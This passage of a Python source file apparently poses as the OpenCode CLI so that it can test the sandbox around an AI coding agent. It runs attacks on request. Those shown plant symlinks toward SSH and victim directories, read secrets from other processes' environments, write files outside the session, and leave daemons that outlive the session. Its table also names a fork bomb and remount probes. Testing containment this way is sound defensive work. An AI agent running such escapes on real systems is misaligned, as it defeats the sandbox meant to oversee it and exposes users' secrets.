def replace_by_symlink(path, target, counter):
    """Removes (or moves aside) whatever is at `path` and puts a symlink to `target` there."""
    steps = []
    if path.is_symlink() or path.is_file():
        path.unlink()
    elif path.is_dir():
        try:
            shutil.rmtree(path)
            steps.append("removed the directory")
        except OSError as error:
            moved = path.with_name(f"{path.name}.attack-moved-{counter}")
            os.rename(path, moved)
            steps.append(f"could not remove it ({describe_error(error)}), moved it to {moved.name}")
    path.parent.mkdir(parents=True, exist_ok=True)
    os.symlink(target, path)
    steps.append(f"linked {path} -> {target}")
    return "; ".join(steps)


def attack_plant(t):
    state = Path(os.environ.get("HOME", "/nonexistent")).parent
    plans = [
        ("plant_config_symlink", Path(os.environ.get("XDG_CONFIG_HOME", state / "config")) / "opencode",
         t["victim_dir"]),
        ("plant_attachments_symlink", state / "attachments", t["ssh_dir"]),
        ("plant_data_symlink", Path(os.environ.get("XDG_DATA_HOME", state / "data")) / "opencode", t["victim_dir2"]),
    ]
    entries = []
    for counter, (name, path, target) in enumerate(plans):
        try:
            detail = replace_by_symlink(path, target, counter)
            entries.append(entry(name, os.path.islink(path), detail))
        except OSError as error:
            entries.append(entry(name, False, f"{path}: {describe_error(error)}"))
    return entries


def attack_state_probe(t):
    written, failed = [], []
    for variable in ("HOME", "XDG_CONFIG_HOME", "XDG_DATA_HOME", "XDG_CACHE_HOME", "XDG_STATE_HOME"):
        directory = os.environ.get(variable)
        if not directory:
            failed.append(f"{variable} unset")
            continue
        path = os.path.abspath(os.path.join(directory, f"acp-attack-{t['nonce']}"))
        try:
            append_line(path, variable)
            written.append(path)
        except OSError as error:
            failed.append(f"{variable}={directory}: {describe_error(error)}")
    sessions = os.path.realpath(t["data_dir"]) + "/sessions/"
    outside = [p for p in written if not os.path.realpath(p).startswith(sessions)]
    return [entry("state_writes", outside, f"written: {written}; failed: {failed}", written=written)]


# ---- environment ----------------------------------------------------------------------------------------------

def attack_env(t):
    secrets = t.get("secrets", {})
    expected = set(t.get("expected_pass", []))
    raw = try_read("/proc/self/environ")[1] if os.path.exists("/proc/self/environ") else ""
    leaked = sorted(name for name, value in secrets.items() if name not in expected and
                    (value in raw or any(value in v for v in os.environ.values())))
    entries = [entry("env_leak", leaked, f"leaked: {leaked}; our variables: {sorted(os.environ)}", leaked=leaked)]

    # What another process's environ gives away beyond what we were given (bubblewrap's own init shares ours).
    ours = raw + "".join(os.environ.values())
    others = []
    for pid in sorted((p for p in os.listdir("/proc") if p.isdigit()), key=int):
        if int(pid) == os.getpid():
            continue
        ok, text = try_read(f"/proc/{pid}/environ")
        if ok:
            names = sorted(name for name, value in secrets.items() if value in text and value not in ours)
            if names:
                others.append(f"pid {pid} ({read_text(f'/proc/{pid}/comm').strip()}): {names}")
    entries.append(entry("env_other_processes", others, f"secrets readable in other processes' environ: {others}"))

    missing = sorted(name for name in expected if os.environ.get(name) != secrets.get(name))
    entries.append(entry("env_pass", not missing, f"(non-attack) expected {sorted(expected)}; missing: {missing}"))
    provider = t.get("provider_env", {})
    absent = sorted(name for name, value in provider.items() if os.environ.get(name) != value)
    entries.append(entry("env_provider", not absent, f"(non-attack) expected {sorted(provider)}; missing: {absent}"))
    return entries


# ---- processes that outlive us --------------------------------------------------------------------------------

def spawn_detached(marker, keep_stdio, lifetime):
    """A double-forked process in its own session, immune to SIGHUP/SIGTERM/SIGINT, with a clean environment."""
    sys.stdout.flush()
    sys.stderr.flush()
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() != 0:
                os._exit(0)
            for sig in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
                signal.signal(sig, signal.SIG_IGN)
            null = os.open("/dev/null", os.O_RDWR)
            os.dup2(null, 0)
            if not keep_stdio:
                os.dup2(null, 1)
                os.dup2(null, 2)
                os.chdir("/")
            code = f"import time\nfor _ in range({lifetime}): time.sleep(1)\n"
            os.execve(sys.executable, [sys.executable, "-c", code, marker], {})
        finally:
            os._exit(1)
    _, status = os.waitpid(pid, 0)
    return status


def attack_daemon(t):
    marker = f"acp-attack-daemon-{t['nonce']}-{TAG}"
    status = spawn_detached(marker, keep_stdio=False, lifetime=600)
    return [entry("daemon", status == 0, f"started a daemon with argv marker {marker}", marker=marker)]


def attack_pipe_holder(t):
    marker = f"acp-attack-holder-{t['nonce']}-{TAG}"
    status = spawn_detached(marker, keep_stdio=True, lifetime=60)
    return [entry("pipe_holder", status == 0, f"left {marker} holding stdout/stderr for 60 s", marker=marker)]


def attack_noop(_t):
    return []


ATTACKS = {
    "secrets": attack_secrets,
    "deny_read": attack_deny_read,
    "plain_home": attack_plain_home,
    "data_dir": attack_data_dir,
    "outside_writes": attack_outside_writes,
    "git_commit": attack_git_commit,
    "protected": attack_protected,
    "git_status": attack_git_status,
    "create_protected": attack_create_protected,
    "unix_sockets": attack_unix_sockets,
    "loopback": attack_loopback,
    "proxy_domains": attack_proxy_domains,
    "capabilities": attack_capabilities,
    "seccomp": attack_seccomp,
    "env": attack_env,
    "memory": attack_memory,
    "state_probe": attack_state_probe,
    "plant": attack_plant,
    "daemon": attack_daemon,
    "pipe_holder": attack_pipe_holder,
    "remount": attack_remount,  # late: a writable root changes what later attacks see
    "fork_bomb": attack_fork_bomb,  # last: under a process limit nothing could start a process after it
    "host_address": attack_host_address,
    "proxy_flood": attack_proxy_flood,
    "model_endpoint": attack_model_endpoint,
    "own_unix_socket": attack_own_unix_socket,
    "socketpair": attack_socketpair,
    "noop": attack_noop,
}
TAG = "untagged"


# ---- OpenCode's side ------------------------------------------------------------------------------------------

VALUE_FLAGS = {"--model": "model", "-m": "model", "--session": "session", "-s": "session", "--format": "format",
               "--agent": "agent", "--title": "title", "--dir": "dir", "--variant": "variant",
               "--log-level": "log_level", "--command": "command", "--attach": "attach", "--password": "password",
               "-p": "password", "--username": "username", "-u": "username", "--port": "port", "--file": "file",
               "-f": "file"}


def parse_args(args):
    if args[:1] == ["--version"]:
        print("1.18.33")
        sys.exit(0)
    if args[:1] == ["models"]:
        sys.exit(0)  # lists no models
    if args[:1] != ["run"]:
        sys.stderr.write(f"Error: hostile opencode only implements `run`, got {args[:1]}\n")
        sys.exit(1)
    opts = {"files": [], "message": []}
    rest = iter(args[1:])
    for arg in rest:
        name, eq, inline = arg.partition("=") if arg.startswith("--") else (arg, "", "")
        if name in VALUE_FLAGS:
            value = inline if eq else next(rest, "")
            if VALUE_FLAGS[name] == "file":
                opts["files"].append(value)
            else:
                opts[VALUE_FLAGS[name]] = value
        elif not arg.startswith("-"):
            opts["message"].append(arg)
    return opts


def now_ms():
    return int(time.time() * 1000)


def ids():
    suffix = "".join(random.choices(string.ascii_letters + string.digits, k=20))
    return f"msg_{suffix}", f"prt_{suffix}"


def emit(obj):
    sys.stdout.write(json.dumps(obj, separators=(",", ":")) + "\n")
    sys.stdout.flush()


def step_start(sid, msg):
    return {"type": "step_start", "timestamp": now_ms(), "sessionID": sid,
            "part": {"id": ids()[1], "messageID": msg, "sessionID": sid, "type": "step-start"}}


def text_part(sid, msg, text):
    t = now_ms()
    return {"type": "text", "timestamp": t, "sessionID": sid,
            "part": {"id": ids()[1], "messageID": msg, "sessionID": sid, "type": "text", "text": text,
                     "time": {"start": t, "end": t}}}


def step_finish(sid, msg):
    return {"type": "step_finish", "timestamp": now_ms(), "sessionID": sid,
            "part": {"id": ids()[1], "reason": "stop", "messageID": msg, "sessionID": sid, "type": "step-finish",
                     "tokens": {"total": 120, "input": 100, "output": 20, "reasoning": 0,
                                "cache": {"write": 0, "read": 0}}, "cost": 0}}


def write_json(path, value):
    tmp = path.with_name(path.name + ".tmp")
    tmp.write_text(json.dumps(value, indent=1))
    os.replace(tmp, path)


def main():
    global TAG
    opts = parse_args(sys.argv[1:])
    stdin = b"" if sys.stdin.isatty() else sys.stdin.buffer.read()
    prompt = " ".join(opts["message"] + [stdin.decode("utf-8", errors="replace")])
    match = re.search(r"ATTACKS:([A-Za-z0-9_,-]+)", prompt)
    names = [n for n in match.group(1).split(",") if n] if match else []
    tag = re.search(r"TAG:([A-Za-z0-9_-]+)", prompt)
    TAG = tag.group(1) if tag else TAG
    modes = [n for n in names if n in STREAM_MODES]
    names = [n for n in names if n not in STREAM_MODES]
    if "all" in names:
        names = [n for n in ATTACKS if n not in ("noop", "proxy_flood", "model_endpoint")]
    prepared = ATTACK_DIR.is_dir()
    targets = {}
    if prepared and (ATTACK_DIR / "targets.json").exists():
        targets = json.loads((ATTACK_DIR / "targets.json").read_text())
    if prepared:
        record = {"argv": sys.argv[1:], "pid": os.getpid(), "attacks": names, "modes": modes, "files": opts["files"],
                  "cwd": str(CWD), "time": now_ms()}
        with open(ATTACK_DIR / "runs.jsonl", "a") as runs:
            runs.write(json.dumps(record) + "\n")

    report = []
    if names and prepared:
        for name in names:
            attack = ATTACKS.get(name)
            if attack is None:
                report.append(entry(name, False, f"unknown attack {name!r}", error="unknown"))
                continue
            try:
                report.extend(attack(targets))
            except Exception as error:  # an attack that cannot run must show up as such, never as "blocked"
                report.append(entry(name, False, f"the attack itself failed: {describe_error(error)}",
                                    error=describe_error(error)))
        write_json(ATTACK_DIR / "report.json", report)

    sid = opts.get("session") or "ses_" + "".join(random.choices(string.ascii_letters + string.digits, k=26))
    msg, _ = ids()
    succeeded = [e["name"] for e in report if e["succeeded"] and "(non-attack)" not in e["detail"]]
    summary = f"hostile: {len(report)} entries, {len(succeeded)} attacks succeeded: {', '.join(succeeded) or 'none'}"
    emit(step_start(sid, msg))
    if "hang" in modes:
        time.sleep(MODE_LIFETIME)
        sys.exit(0)
    if "drip" in modes:
        deadline = time.monotonic() + MODE_LIFETIME
        while time.monotonic() < deadline:
            emit(text_part(sid, msg, "drip. "))
            time.sleep(0.5)
    emit(text_part(sid, msg, summary))
    emit(step_finish(sid, msg))


if __name__ == "__main__":
    main()
